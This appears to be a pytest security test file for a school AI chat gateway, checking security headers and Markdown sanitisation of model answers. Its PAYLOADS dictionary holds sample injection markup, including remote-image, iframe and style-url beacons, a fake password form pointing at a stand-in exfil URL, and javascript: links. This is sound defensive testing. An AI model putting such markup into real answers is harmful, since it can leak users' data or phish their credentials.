"""Every answer of the gateway carries a strict Content-Security-Policy, nosniff, a referrer policy, no framing, and
HSTS over HTTPS; answers and file names are rendered with nothing that loads from elsewhere or sends a form."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import html
import re

import httpx
import pytest
from schulki.gateway.web.safe_markup import plain, safe_markdown
from schulki.gateway.web.security_headers import SecurityHeadersMiddleware
from starlette.responses import HTMLResponse

from tests.security.conftest import upload

REMOTE = "http://127.0.0.2:9/exfil?q=frage"


def directives(policy: str) -> dict[str, list[str]]:
    return {part.split()[0]: part.split()[1:] for part in (p.strip() for p in policy.split(";")) if part}


def assert_strict(response: httpx.Response) -> dict[str, list[str]]:
    headers = response.headers
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "DENY"
    assert headers["referrer-policy"] == "same-origin"
    assert headers["strict-transport-security"] == "max-age=31536000"  # the stack serves HTTPS
    policy = directives(headers["content-security-policy"])
    assert policy["default-src"] == ["'self'"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["base-uri"] == ["'self'"]
    assert policy["form-action"] == ["'self'"]
    # images only from the gateway; media and connections also from what the browser itself holds (blob:, the
    # recording just made): never another host
    assert policy["img-src"] == ["'self'"]
    assert policy["media-src"] == ["'self'", "blob:"]
    assert policy["connect-src"] == ["'self'", "blob:"]
    assert [s for s in policy["script-src"] if not s.startswith("'sha256-")] == ["'self'"]
    return policy


@pytest.mark.parametrize("path", ["/", "/en/", "/config", "/en/config"])
def test_the_ui_pages_carry_the_security_headers(student, path):
    with student.browser() as client:
        response = client.get(path)
    assert response.status_code == 200
    policy = assert_strict(response)
    if response.headers["content-type"].startswith("text/html"):
        # Gradio's inline scripts run by their hash, each one; nothing else inline, no eval
        inline = re.findall(r"<script\b(?![^>]*\bsrc=)[^>]*>(.*?)</script>", response.text, re.DOTALL)
        assert inline, "Gradio's page has inline scripts"
        for body in inline:
            digest = base64.b64encode(hashlib.sha256(body.encode()).digest()).decode()
            assert f"'sha256-{digest}'" in policy["script-src"]


@pytest.mark.parametrize("path", ["/login", "/login?lang=en", "/v1/models", "/v1/nowhere", "/healthz"])
def test_the_login_page_and_the_api_carry_the_security_headers(student, security_stack, path):
    with httpx.Client(base_url=security_stack.url, timeout=60) as client:
        response = client.get(path, headers=student.bearer)
    assert response.status_code in (200, 404)
    assert_strict(response)


def test_refusals_and_redirects_carry_the_security_headers(security_stack):
    with httpx.Client(base_url=security_stack.url, timeout=60) as client:
        assert_strict(client.get("/"))  # 303 to the login page
        assert_strict(client.get("/v1/models"))  # 401
        assert_strict(client.post("/login", headers={"origin": "https://elsewhere.example"}, data={}))  # 403 from the origin guard


def test_gradio_file_routes_carry_the_security_headers(student):
    with student.browser() as client:
        path = upload(client, "notiz.html", b"<img src='http://127.0.0.2:9/x'><script>alert(1)</script>")
        response = client.get(f"/gradio_api/file={path}")
    assert response.status_code == 200
    policy = assert_strict(response)
    # an uploaded HTML page opened on the gateway's origin runs no script of its own
    assert policy["script-src"] == ["'self'"], response.headers["content-type"]


def test_hsts_only_over_https():
    async def page(scope, receive, send):
        await HTMLResponse("<p>schulki</p>")(scope, receive, send)

    async def fetch(scheme: str) -> httpx.Response:
        transport = httpx.ASGITransport(app=SecurityHeadersMiddleware(page))
        async with httpx.AsyncClient(transport=transport, base_url=f"{scheme}://schulki.schule") as client:
            return await client.get("/")

    assert "strict-transport-security" in asyncio.run(fetch("https")).headers
    plain_http = asyncio.run(fetch("http")).headers
    assert "strict-transport-security" not in plain_http
    assert plain_http["x-frame-options"] == "DENY"


PAYLOADS = {
    "markdown image": f"Antwort ![bild]({REMOTE})",
    "reference image": f"Antwort ![bild][1]\n\n[1]: {REMOTE}",
    "img srcset": f'<img src="{REMOTE}" srcset="{REMOTE} 1x">',
    "video poster": f'<video poster="{REMOTE}"></video>',
    "svg image": f'<svg><image href="{REMOTE}" /></svg>',
    "form": f'<form action="{REMOTE}"><input name="passwort" type="password"><button>Anmelden</button></form>',
    "style url": f'<p style="background:url({REMOTE})">x</p>',
    "html block then markdown": f"<div>\n\n![bild]({REMOTE})\n\n</div>",
    "code block with blank line": f"```\nx\n\n![bild]({REMOTE})\n```",
    "iframe": f'<iframe src="{REMOTE}"></iframe>',
    "link tag": f'<link rel="stylesheet" href="{REMOTE}">',
    "object": f'<object data="{REMOTE}"></object>',
    "javascript link": "[klick](javascript:alert(1))",
}


@pytest.mark.parametrize("markup", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_rendered_answers_keep_nothing_that_loads_or_sends(markup):
    shown = safe_markdown(markup)
    lowered = shown.lower()
    for tag in ("<img", "<video", "<svg", "<image", "<form", "<input", "<iframe", "<link", "<object", "<style", "<script"):
        assert tag not in lowered, (tag, shown)
    for attribute in ("src=", "srcset=", "poster=", "action=", "style=", 'href="javascript'):
        assert attribute not in lowered, (attribute, shown)
    # Gradio renders the value as Markdown again: nothing in it may still be Markdown syntax
    assert "![" not in shown and "](" not in shown
    assert "\n" not in shown


def test_answers_keep_their_text_structure_and_links():
    shown = safe_markdown(
        "# Titel\n\n**fett** und *schräg*\n\n- eins\n- zwei\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[Quelle](https://schule.example/seite)"
    )
    for tag in ("<h1>", "<strong>", "<em>", "<ul>", "<li>", "<table>", "<td>"):
        assert tag in shown
    assert '<a href="https://schule.example/seite" rel="noopener noreferrer nofollow" target="_blank">Quelle</a>' in shown
    assert "Quelle" in shown and "schräg" in shown  # text stays readable for the UI's API clients


def test_names_are_shown_as_their_characters():
    name = "**fett** <b>x</b> ![i](http://127.0.0.2/) [l](u) `c` _k_.pdf"
    shown = safe_markdown(f"Quellen: {plain(name)}")
    assert "<b>" not in shown and "<strong>" not in shown and "<em>" not in shown and "<a " not in shown and "<code>" not in shown
    # a browser decodes the references back into exactly the name
    assert html.unescape(re.sub(r"<[^>]+>", "", shown)).strip() == f"Quellen: {name}"


def test_every_streamed_prefix_of_an_answer_is_sanitised():
    """An answer is shown after every token, its finished blocks rendered apart from the last one: no prefix, and no
    split between blocks, lets markup through."""
    answer = "\n\n".join([*PAYLOADS.values(), "```\ncode\n\n<img src=x>\n```", f"<form action='{REMOTE}'>\n\n<input name=p>\n\n</form>"])
    for end in range(1, len(answer) + 1, 3):
        shown = safe_markdown(answer[:end]).lower()
        assert "<img" not in shown and "<form" not in shown and "<input" not in shown, answer[:end]
        assert not re.search(r"<[^>]*\b(src|srcset|poster|action)=", shown), answer[:end]  # "<" in text is "&#60;"
